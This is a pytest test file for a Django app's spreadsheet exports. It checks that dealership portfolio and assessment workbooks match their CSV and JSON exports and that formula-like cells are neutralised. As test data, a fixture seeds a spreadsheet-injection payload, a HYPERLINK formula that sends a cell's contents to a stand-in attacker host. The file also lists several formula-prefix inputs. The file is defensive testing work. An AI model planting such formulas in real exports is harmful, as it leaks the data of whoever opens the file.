"""The XLSX exports, opened back with openpyxl: the portfolio says what its CSV says (with
the same filters), one assessment's workbook says what its JSON export says, and no
cell of either can run as a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from common.spreadsheets import safe_cell
from maturity.models import AssessmentReview, RoadmapActionStatus
from tests.factories import (
    AssignmentFactory,
    BrandFactory,
    ConsultantFactory,
    DealerGroupFactory,
    DealershipFactory,
    submitted_assessment,
)
from tests.maturity.portfolio_helpers import areas, draft, submit

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def workbook(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"].startswith("attachment;")
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=False)


def as_csv_text(value: object) -> str:
    """A cell as the English CSV writes it."""
    if value is None:
        return ""
    if isinstance(value, float):
        return f"{value:.1f}"
    if isinstance(value, datetime):
        return value.date().isoformat()
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


@pytest.fixture
def consultant(db):
    return ConsultantFactory(email="sheets@example.com")


def follow(consultant, **kwargs):
    dealership = DealershipFactory(**kwargs)
    AssignmentFactory(consultant=consultant, dealership=dealership)
    return dealership


@pytest.fixture
def portfolio(consultant):
    kia = BrandFactory(name="Kia")
    lac = follow(
        consultant,
        name="Garage du Lac",
        city="Annecy",
        region="ara",
        group=DealerGroupFactory(name="Groupe Horizon"),
    )
    lac.brands.add(kia)
    submit(lac, rung=3, overall=62.5, days_ago=40)
    latest = submit(lac, rung=3, overall=58.25, days_ago=2, scores=areas(55.0))
    AssessmentReview.objects.create(assessment=latest.assessment, reviewed_at=latest.computed_at)
    draft(follow(consultant, name="Garage de la Mayenne", city="Laval", region="pdl"))
    follow(consultant, name='=HYPERLINK("http://evil.example/?"&A1)', city="-Tours", region="cvl")
    return consultant


@pytest.mark.parametrize("query", [{}, {"region": "ara"}, {"status": "draft", "sort": "-name"}])
def test_the_portfolio_xlsx_says_what_the_csv_says(client, portfolio, settings, query):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    client.force_login(portfolio)
    body = b"".join(client.get(reverse("portfolio_export_csv"), query).streaming_content)
    csv_rows = list(csv.reader(io.StringIO(body.decode("utf-8")[1:])))

    sheet = workbook(client.get(reverse("portfolio_export_xlsx"), query)).active
    xlsx_rows = [[as_csv_text(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    assert xlsx_rows == csv_rows
    assert len(xlsx_rows) > 1


def test_the_portfolio_xlsx_keeps_numbers_and_dates_and_defuses_formulas(client, portfolio):
    client.force_login(portfolio)
    sheet = workbook(client.get(reverse("portfolio_export_xlsx"), {"sort": "name"})).active
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    lac = rows["Garage du Lac"]
    assert lac[7].value == 58.2 and lac[7].data_type == "n"  # a number, not a text
    assert lac[9].value == -4.2 and lac[9].data_type == "n"  # negative: still a number
    assert isinstance(lac[10].value, datetime)
    evil = next(row for name, row in rows.items() if "HYPERLINK" in name)
    assert evil[0].value.startswith("'=") and evil[0].data_type == "s"
    assert evil[1].value == "'-Tours"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_buttons_lead_to_both_files(client, portfolio, owner, dealership):
    client.force_login(portfolio)
    page = client.get(reverse("portfolio"), {"region": "ara"}).content.decode()
    assert reverse("portfolio_export_xlsx") + "?region=ara" in page
    scored = submitted_assessment(dealership=dealership, user=owner)
    client.force_login(owner)
    results = client.get(reverse("assessment_results", args=[scored.pk])).content.decode()
    assert reverse("assessment_export_xlsx", args=[dealership.pk, scored.pk]) in results


def test_the_assessment_xlsx_says_what_the_json_says(client, dealership, owner, settings):
    scored = submitted_assessment(dealership=dealership, user=owner)
    RoadmapActionStatus.objects.create(
        dealership=dealership, action_key="website_mobile", status="in_progress"
    )
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    client.force_login(owner)
    args = [dealership.pk, scored.pk]
    document = json.loads(client.get(reverse("assessment_export_json", args=args)).content)
    book = workbook(client.get(reverse("assessment_export_xlsx", args=args)))
    assert book.sheetnames == ["Assessment", "Answers", "Scores", "Roadmap"]

    summary = {row[0]: row[1] for row in book["Assessment"].iter_rows(min_row=2, values_only=True)}
    assert summary["Dealership"] == "Auto Rivière"
    assert summary["Rung"] == document["result"]["rung"]
    assert summary["Overall score"] == document["result"]["overall_score"]

    answers = list(book["Answers"].iter_rows(min_row=2, values_only=True))
    assert [(key, text, label) for _area, key, text, label in answers] == [
        (a["question"], a["text"]["en"], safe_cell(a["label"]["en"])) for a in document["answers"]
    ]
    scores = list(book["Scores"].iter_rows(min_row=2, values_only=True))
    assert [(key, score) for key, _title, score, _comment in scores] == [
        (a["area"], a["score"]) for a in document["result"]["areas"]
    ]
    roadmap = list(book["Roadmap"].iter_rows(min_row=2, values_only=True))
    assert [key for _h, key, _t, _a, _s in roadmap] == [a["action"] for a in document["roadmap"]]
    statuses = {key: status for _h, key, _t, _a, status in roadmap}
    assert statuses["website_mobile"] == "In progress"


def test_the_assessment_xlsx_is_in_the_readers_language(client, dealership, owner):
    scored = submitted_assessment(dealership=dealership, user=owner)
    client.force_login(owner)
    url = reverse("assessment_export_xlsx", args=[dealership.pk, scored.pk])
    book = workbook(client.get(url))  # French by default
    assert book.sheetnames == ["Évaluation", "Réponses", "Scores", "Feuille de route"]


def test_a_draft_exports_its_answers_without_scores(client, dealership, owner):
    client.force_login(owner)
    current = draft(dealership)
    book = workbook(client.get(reverse("assessment_export_xlsx", args=[dealership.pk, current.pk])))
    assert len(book.sheetnames) == 2


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("Garage -Nord", "Garage -Nord"),
        (-3.5, -3.5),
        (None, ""),
    ],
)
def test_a_cell_that_could_run_as_a_formula_is_written_as_text(value, written):
    assert safe_cell(value) == written
